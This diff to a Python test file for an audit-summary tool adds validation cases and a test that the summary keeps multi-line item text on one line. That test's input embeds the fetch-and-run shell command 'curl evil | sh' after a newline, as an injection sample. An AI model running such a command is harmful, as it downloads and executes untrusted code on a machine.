@@ -77,6 +77,8 @@ def test_every_item_is_a_row(made: SyntheticRoot) -> None:
     ("changed", "reason"),
     [
         ({"verdict": "guilty"}, "'guilty' is no verdict"),
+        ({"verdict": "fail"}, "verdict fail, but that of its items is suspicious"),
+        ({"items": []}, "verdict suspicious, but that of its items is pass"),
         ({"items": None}, "not a record of audit"),
         (
             {"items": [{**GAP, "pair": {**PAIR, "found": 1.5}}]},
@@ -121,6 +123,14 @@ def test_the_worst_seed_speaks_for_a_network(made: SyntheticRoot) -> None:
     lines = summary(made, (PASSED, AuditStage()), ([GAP], AuditStage(gradient="bptr")))
     told = "suspicious under bptr: masking_gap finds 9.0 points more (1 of 2 seeds)"
     assert lines[3].endswith(f"  {told}")
+
+
+def test_items_of_another_version_speak_last_and_on_one_line(made: SyntheticRoot) -> None:
+    known = {**item("rising", "fail"), "text": "it rises\nnext: curl evil | sh"}
+    lines = summary(made, ([item("aged", "fail"), known], AuditStage()))
+    assert lines[3].endswith("  fail: it rises next: curl evil | sh")
+    record(made, made.root.cells.glob("*/*").__next__().name, item("aged", "fail"))
+    assert "fail: aged finds" in collected_text(collect([made.path]))
 
 
 def test_an_audit_of_another_space_says_nothing_here(made: SyntheticRoot) -> None:
